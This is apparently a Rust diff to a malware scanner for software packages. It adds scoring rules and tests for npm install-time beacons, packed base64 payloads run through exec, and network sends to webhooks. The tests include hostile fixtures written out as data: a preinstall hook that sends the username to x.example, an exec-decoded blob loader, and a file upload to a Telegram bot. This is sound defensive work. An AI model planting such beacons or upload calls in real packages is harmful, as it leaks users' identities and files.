@@ -70,6 +70,8 @@ pub fn verdict(hits: &[Hit], meta: Option<&PackageMeta>) -> Verdict {
         }
     }
 
+    all.extend(install_target_beacons(&all));
+
     // Per file: each rule counts once, at its heaviest hit.
     let mut files: BTreeMap<&str, BTreeMap<&str, f32>> = BTreeMap::new();
     for h in &all {
@@ -97,6 +99,20 @@ pub fn verdict(hits: &[Hit], meta: Option<&PackageMeta>) -> Verdict {
             && all.iter().any(|h| {
                 h.path == *path && h.family == Family::Obfuscation && h.severity >= Severity::Medium
             })
+        {
+            bonus += 2.0;
+        }
+        // A network call next to a webhook, paste site or tunnel: the send.
+        if network
+            && all.iter().any(|h| {
+                h.path == *path && h.family == Family::Destination && h.severity >= Severity::Medium
+            })
+        {
+            bonus += 2.0;
+        }
+        // A kilobyte-long blob run through exec: a packed payload, not data.
+        if has(crate::families::obfuscation::EXEC_DECODED.meta.id)
+            && has(crate::families::obfuscation::LONG_BLOB.meta.id)
         {
             bonus += 2.0;
         }
@@ -133,6 +149,7 @@ pub fn verdict(hits: &[Hit], meta: Option<&PackageMeta>) -> Verdict {
             Family::DownloadExec | Family::Destination | Family::Obfuscation
         ) && h.severity >= Severity::Medium)
             || h.rule.meta.id == crate::families::credentials::EXFIL.meta.id
+            || h.rule.meta.id == crate::families::install::CMDCLASS_PAYLOAD.meta.id
     });
     if has_install && payload {
         score += 3.0;
@@ -174,5 +191,115 @@ pub fn verdict(hits: &[Hit], meta: Option<&PackageMeta>) -> Verdict {
         confidence,
         families: families.into_iter().collect(),
         hits: all,
+    }
+}
+
+/// Files that npm install scripts run (`node preinstall.js`), as package
+/// paths next to their package.json.
+fn install_targets(hits: &[Hit]) -> Vec<String> {
+    use crate::families::install::{NPM_SCRIPT, NPM_SCRIPT_SHELL};
+    let mut out = Vec::new();
+    for h in hits {
+        let id = h.rule.meta.id;
+        if id != NPM_SCRIPT.meta.id && id != NPM_SCRIPT_SHELL.meta.id {
+            continue;
+        }
+        let cmd = h.snippet.split_once(": ").map_or("", |(_, c)| c);
+        let mut words = cmd.split_whitespace();
+        while let Some(w) = words.next() {
+            if w != "node" {
+                continue;
+            }
+            if let Some(t) = words.find(|w| !w.starts_with('-')) {
+                let t = t.trim_start_matches("./");
+                let t = if t == "." { "index.js" } else { t };
+                let dir = h.path.rsplit_once('/').map_or("", |(d, _)| d);
+                out.push(if dir.is_empty() {
+                    t.to_string()
+                } else {
+                    format!("{dir}/{t}")
+                });
+            }
+            break;
+        }
+    }
+    out
+}
+
+/// A file run by an npm install script that reads the host or user
+/// identity and makes a network call: an install-time beacon.
+fn install_target_beacons(hits: &[Hit]) -> Vec<Hit> {
+    use crate::families::{capability, destination};
+    let mut out = Vec::new();
+    for target in install_targets(hits) {
+        let in_target = |id: &str| {
+            hits.iter()
+                .find(|h| h.path == target && h.rule.meta.id == id)
+        };
+        if let (Some(who), Some(_)) = (
+            in_target(capability::HOST_IDENTITY.meta.id),
+            in_target(capability::NETWORK.meta.id),
+        ) {
+            let rule = &destination::HOST_BEACON;
+            out.push(Hit {
+                rule,
+                severity: rule.meta.default_severity,
+                confidence: rule.confidence,
+                path: target.clone(),
+                line: who.line,
+                snippet: who.snippet.clone(),
+                layer: who.layer,
+                family: rule.family,
+            });
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn executed_long_blob_is_high_and_short_exec_decoded_is_not() {
+        let blob = "QUJD".repeat(300);
+        let packed = format!("import base64\nexec(base64.b64decode('{blob}'))\n");
+        let v = verdict(&crate::scan_source("pkg/check.py", packed.as_bytes()), None);
+        assert!(v.severity >= Severity::High, "{v:?}");
+        let short = "import base64\nexec(base64.b64decode(payload))\n";
+        let v = verdict(&crate::scan_source("pkg/check.py", short.as_bytes()), None);
+        assert!(v.severity < Severity::High, "{v:?}");
+        // A long blob that is only data (no exec) stays below high.
+        let data = format!("ICON = '{blob}'\n");
+        let v = verdict(&crate::scan_source("pkg/icons.py", data.as_bytes()), None);
+        assert!(v.severity < Severity::High, "{v:?}");
+    }
+
+    #[test]
+    fn npm_install_script_target_beacon_is_high() {
+        let pkg = br#"{"name":"x","version":"1.0.0","scripts":{"preinstall":"node update.js &"}}"#;
+        let beacon = b"const os = require('os'), https = require('https');\nhttps.request({host: 'x.example', path: '/' + os.userInfo().username}).end();\n";
+        let mut hits = crate::scan_source("package/package.json", pkg);
+        hits.extend(crate::scan_source("package/update.js", beacon));
+        let v = verdict(&hits, None);
+        assert!(v.severity >= Severity::High, "{v:?}");
+        // The same file not run by an install script stays below high.
+        let v = verdict(&crate::scan_source("package/update.js", beacon), None);
+        assert!(v.severity < Severity::High, "{v:?}");
+        // An install script that only downloads (no identity) stays below high.
+        let fetch = b"const https = require('https');\nhttps.get('https://x.example/bin.tgz', r => r.pipe(out));\n";
+        let mut hits = crate::scan_source("package/package.json", pkg);
+        hits.extend(crate::scan_source("package/update.js", fetch));
+        assert!(verdict(&hits, None).severity < Severity::High);
+    }
+
+    #[test]
+    fn network_call_to_a_webhook_weighs_more_than_the_url_alone() {
+        let send = "import requests\nrequests.post('https://api.telegram.org/bot' + t + '/sendDocument', files={'document': open(f, 'rb')})\n";
+        let url_only = "BOT = 'https://api.telegram.org/bot' + t\n";
+        let a = verdict(&crate::scan_source("pkg/a.py", send.as_bytes()), None);
+        let b = verdict(&crate::scan_source("pkg/a.py", url_only.as_bytes()), None);
+        assert!(a.score >= b.score + 2.0, "{a:?} {b:?}");
+        assert!(b.severity < Severity::Medium, "{b:?}");
     }
 }
